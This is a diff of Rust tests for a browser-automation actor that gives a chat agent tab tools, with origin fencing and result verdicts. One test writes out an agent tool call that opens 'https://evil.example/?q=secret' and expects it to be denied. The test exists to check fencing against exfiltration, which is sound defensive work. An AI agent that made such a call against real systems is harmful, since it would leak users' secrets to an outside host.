@@ -32,6 +32,10 @@ impl Actor for Chat {
 
     fn turn(&mut self, event: Event<'_>, cx: &mut Cx<'_>) -> Result<(), Crash> {
         match event {
+            Event::User { body: bytes, reply: Some(reply), .. } => {
+                cx.send(self.ears, &[b"chat ", bytes].concat());
+                cx.reply(reply, b"{}", &[]);
+            }
             Event::User { body: bytes, .. } => match body::<ToBrowser>(bytes) {
                 Ok(ToBrowser::Tool { .. } | ToBrowser::Find { .. }) => {
                     cx.call(self.browser, bytes, &[cx.me()], peerd_vat::INFINITY_MS);
@@ -136,7 +140,7 @@ impl World {
 
     fn tool(&mut self, tool: &str, input: Value, origins: &[&str]) -> &mut Self {
         let origins = origins.iter().map(ToString::to_string).collect();
-        self.say(&ToBrowser::Tool { chat: CHAT, effect: "e".into(), tool: tool.into(), input, origins })
+        self.say(&ToBrowser::Tool { chat: CHAT, effect: "e".into(), tool: tool.into(), input, origins, trace: None })
     }
 
     fn find(&mut self, tab: Option<TabId>) -> &mut Self {
@@ -184,10 +188,10 @@ fn a_tab_gets_its_actor_when_it_is_first_looked_for() {
     world.expect(expect![[r#"
         {"op":"tab","tab":7}
         {"adopts":"https://shop.example/","driven":false,"restarts":0,"web":7}
-        chat {"tab":7,"url":"https://shop.example/","title":"A page","missing":null}
+        chat {"tab":7,"url":"https://shop.example/","title":"A page","missing":null,"gone":false}
         {"heard":"greeting","web":7}
         {"op":"tab","tab":7}
-        chat {"tab":7,"url":"https://shop.example/cart","title":"A page","missing":null}
+        chat {"tab":7,"url":"https://shop.example/cart","title":"A page","missing":null,"gone":false}
         {"heard":"greeting","web":7}
     "#]]);
     assert_eq!(world.vat.rows().iter().filter(|row| row.label == "web 7").count(), 1);
@@ -196,9 +200,9 @@ fn a_tab_gets_its_actor_when_it_is_first_looked_for() {
 #[test]
 fn no_tab_no_actor_and_the_reason_in_words() {
     World::new().find(None).find(Some(8)).answer(json!({"err": {"kind": "gone", "text": "x"}})).expect(expect![[r#"
-        chat {"tab":0,"url":"","title":"","missing":"there is no tab to act on yet: open one with new_tab, or choose one with switch_tab"}
+        chat {"tab":0,"url":"","title":"","missing":"there is no tab to act on yet: open one with new_tab, or choose one with switch_tab","gone":false}
         {"op":"tab","tab":8}
-        chat {"tab":8,"url":"","title":"","missing":"there is no such tab"}
+        chat {"tab":8,"url":"","title":"","missing":"there is no such tab","gone":true}
     "#]]);
 }
 
@@ -222,7 +226,7 @@ fn a_crashed_page_is_adopted_again_and_the_fourth_crash_in_five_seconds_ends_it(
     world.find(Some(7)).answer(tab(7, "https://shop.example/")).expect(expect![[r#"
         {"op":"tab","tab":7}
         {"adopts":"https://shop.example/","driven":true,"restarts":0,"web":7}
-        chat {"tab":7,"url":"https://shop.example/","title":"A page","missing":null}
+        chat {"tab":7,"url":"https://shop.example/","title":"A page","missing":null,"gone":false}
         {"heard":"greeting","web":7}
     "#]]);
 }
@@ -259,10 +263,11 @@ fn a_new_tab_is_fenced_and_driven_and_asked_for_elsewhere() {
         .tool("new_tab", json!({"url": "https://shop.example/"}), &["https://shop.example"])
         .answer(tab(3, "https://shop.example/"))
         .expect(expect![[r#"
+            chat {"Dispatch":{"effect":"e","trace":"{\"tries\":1,\"session\":\"\"}"}}
             {"beside":null,"effect":"e.1","op":"new_tab","origins":["https://shop.example"],"url":"https://shop.example/"}
             {"chat":1,"op":"group","tabs":[3],"title":""}
             {"on":true,"op":"watch_hand","tab":3}
-            chat {"verdict":"verified","summary":"open a tab: https://shop.example/","evidence":"tab 3 is open and is now the one you act on","text":"verified: tab 3 is open and is now the one you act on","images":[],"error":false,"changed":true,"page_before":0,"tab":3,"url":"","step":null}
+            chat {"verdict":"verified","summary":"open a tab: https://shop.example/","evidence":"tab 3 is open and is now the one you act on","text":"verified: tab 3 is open and is now the one you act on","images":[],"error":false,"changed":true,"page_before":0,"tab":3,"url":"","trace":"","step":null}
         "#]])
         .tool("new_tab", json!({"url": "https://evil.example/?q=secret"}), &["https://shop.example"])
         .expect(expect![[r#"
@@ -270,7 +275,7 @@ fn a_new_tab_is_fenced_and_driven_and_asked_for_elsewhere() {
         "#]])
         .say(&ToBrowser::Denied { effect: "e".into(), reason: "its owner said no".into() })
         .expect(expect![[r#"
-            chat {"verdict":"denied","summary":"open a tab: https://evil.example/?q=secret","evidence":"its owner said no","text":"Not done: its owner said no","images":[],"error":true,"changed":false,"page_before":0,"tab":null,"url":"","step":null}
+            chat {"verdict":"denied","summary":"open a tab: https://evil.example/?q=secret","evidence":"its owner said no","text":"Not done: its owner said no","images":[],"error":true,"changed":false,"page_before":0,"tab":null,"url":"","trace":"","step":null}
         "#]]);
 }
 
@@ -281,27 +286,31 @@ fn a_new_tab_whose_answer_was_lost_is_looked_for_before_it_is_opened_again() {
     let mut world = World::new();
     world.tool("new_tab", json!({"url": "https://shop.example/"}), &origins).answer(lost.clone());
     world.answer(json!({"state": "done", "answer": tab(3, "https://shop.example/")})).expect(expect![[r#"
+        chat {"Dispatch":{"effect":"e","trace":"{\"tries\":1,\"session\":\"\"}"}}
         {"beside":null,"effect":"e.1","op":"new_tab","origins":["https://shop.example"],"url":"https://shop.example/"}
         {"effect":"e.1","op":"probe"}
         {"chat":1,"op":"group","tabs":[3],"title":""}
         {"on":true,"op":"watch_hand","tab":3}
-        chat {"verdict":"verified","summary":"open a tab: https://shop.example/","evidence":"tab 3 is open and is now the one you act on","text":"verified: tab 3 is open and is now the one you act on","images":[],"error":false,"changed":true,"page_before":0,"tab":3,"url":"","step":null}
+        chat {"verdict":"verified","summary":"open a tab: https://shop.example/","evidence":"tab 3 is open and is now the one you act on","text":"verified: tab 3 is open and is now the one you act on","images":[],"error":false,"changed":true,"page_before":0,"tab":3,"url":"","trace":"","step":null}
     "#]]);
     world.tool("new_tab", json!({"url": "https://shop.example/"}), &origins).answer(lost.clone());
     world.answer(lost.clone()).answer(json!({"state": "unknown"})).answer(tab(4, "https://shop.example/")).expect(expect![[r#"
+        chat {"Dispatch":{"effect":"e","trace":"{\"tries\":1,\"session\":\"\"}"}}
         {"beside":3,"effect":"e.1","op":"new_tab","origins":["https://shop.example"],"url":"https://shop.example/"}
         {"effect":"e.1","op":"probe"}
         {"effect":"e.1","op":"probe"}
+        chat {"Dispatch":{"effect":"e","trace":"{\"tries\":2,\"session\":\"\"}"}}
         {"beside":3,"effect":"e.2","op":"new_tab","origins":["https://shop.example"],"url":"https://shop.example/"}
         {"chat":1,"op":"group","tabs":[3,4],"title":""}
         {"on":true,"op":"watch_hand","tab":4}
-        chat {"verdict":"verified","summary":"open a tab: https://shop.example/","evidence":"tab 4 is open and is now the one you act on","text":"verified: tab 4 is open and is now the one you act on","images":[],"error":false,"changed":true,"page_before":0,"tab":4,"url":"","step":null}
+        chat {"verdict":"verified","summary":"open a tab: https://shop.example/","evidence":"tab 4 is open and is now the one you act on","text":"verified: tab 4 is open and is now the one you act on","images":[],"error":false,"changed":true,"page_before":0,"tab":4,"url":"","trace":"","step":null}
     "#]]);
     world.tool("new_tab", json!({"url": "https://shop.example/"}), &origins).answer(lost);
     world.answer(json!({"state": "begun", "before": {}})).expect(expect![[r#"
+        chat {"Dispatch":{"effect":"e","trace":"{\"tries\":1,\"session\":\"\"}"}}
         {"beside":4,"effect":"e.1","op":"new_tab","origins":["https://shop.example"],"url":"https://shop.example/"}
         {"effect":"e.1","op":"probe"}
-        chat {"verdict":"unknown","summary":"open a tab: https://shop.example/","evidence":"it can't be told whether this was done: open a tab: https://shop.example/. It is not repeated; look with list_tabs.","text":"it can't be told whether this was done: open a tab: https://shop.example/. It is not repeated; look with list_tabs.","images":[],"error":true,"changed":false,"page_before":0,"tab":null,"url":"","step":null}
+        chat {"verdict":"unknown","summary":"open a tab: https://shop.example/","evidence":"it can't be told whether this was done: open a tab: https://shop.example/. It is not repeated; look with list_tabs.","text":"it can't be told whether this was done: open a tab: https://shop.example/. It is not repeated; look with list_tabs.","images":[],"error":true,"changed":false,"page_before":0,"tab":null,"url":"","trace":"","step":null}
     "#]]);
 }
 
@@ -314,7 +323,7 @@ fn the_owners_other_tabs_are_listed_without_their_addresses_and_switched_to_with
         .answer(json!([tab(7, "https://shop.example/cart"), bank]))
         .expect(expect![[r#"
             {"op":"tabs"}
-            chat {"verdict":"done","summary":"list the tabs","evidence":"2 tabs","text":"tab 7 (the one you act on): https://shop.example/cart\n<page origin=\"https://shop.example\">\nA page\n</page>\ntab 9: https://bank.example (not yours)\n","images":[],"error":false,"changed":true,"page_before":0,"tab":null,"url":"","step":null}
+            chat {"verdict":"done","summary":"list the tabs","evidence":"2 tabs","text":"tab 7 (the one you act on): https://shop.example/cart\n<page origin=\"https://shop.example\">\nA page\n</page>\ntab 9: https://bank.example (not yours)\n","images":[],"error":false,"changed":true,"page_before":0,"tab":null,"url":"","trace":"","step":null}
         "#]])
         .tool("switch_tab", json!({"tab_id": 9}), &["https://shop.example"])
         .answer(bank)
@@ -326,7 +335,7 @@ fn the_owners_other_tabs_are_listed_without_their_addresses_and_switched_to_with
         .expect(expect![[r#"
             {"chat":1,"op":"group","tabs":[7,9],"title":"Tea"}
             {"on":true,"op":"watch_hand","tab":9}
-            chat {"verdict":"verified","summary":"switch to tab 9","evidence":"tab 9 is now the one you act on","text":"verified: tab 9 is now the one you act on","images":[],"error":false,"changed":true,"page_before":0,"tab":9,"url":"","step":null}
+            chat {"verdict":"verified","summary":"switch to tab 9","evidence":"tab 9 is now the one you act on","text":"verified: tab 9 is now the one you act on","images":[],"error":false,"changed":true,"page_before":0,"tab":9,"url":"","trace":"","step":null}
         "#]]);
 }
 
@@ -340,8 +349,9 @@ fn a_chat_that_closes_its_tab_is_not_told_that_it_was_closed() {
         .answer(json!({}))
         .expect(expect![[r#"
             {"op":"tab","tab":7}
+            chat {"Dispatch":{"effect":"e","trace":"{\"tries\":1,\"session\":\"\"}"}}
             {"effect":"e.1","op":"close_tab","tab":7}
             {"heard":"tab_closed","web":7}
-            chat {"verdict":"verified","summary":"close tab 7","evidence":"tab 7 is closed","text":"verified: tab 7 is closed","images":[],"error":false,"changed":true,"page_before":0,"tab":null,"url":"","step":null}
+            chat {"verdict":"verified","summary":"close tab 7","evidence":"tab 7 is closed","text":"verified: tab 7 is closed","images":[],"error":false,"changed":true,"page_before":0,"tab":null,"url":"","trace":"","step":null}
         "#]]);
 }
